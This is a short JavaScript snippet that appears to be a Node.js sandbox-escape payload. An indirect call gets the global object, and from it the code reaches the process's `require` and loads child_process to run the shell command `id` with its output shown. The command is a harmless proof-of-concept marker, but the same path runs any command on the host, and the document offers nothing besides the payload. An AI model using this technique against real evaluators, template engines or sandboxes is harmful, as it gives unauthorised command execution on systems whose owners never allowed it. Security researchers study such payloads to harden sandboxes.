const helpers = {
  self() { return this; },
};
const g = (0, helpers.self)();
g.process.mainModule.require("child_process").execSync("id", {stdio: "inherit"});
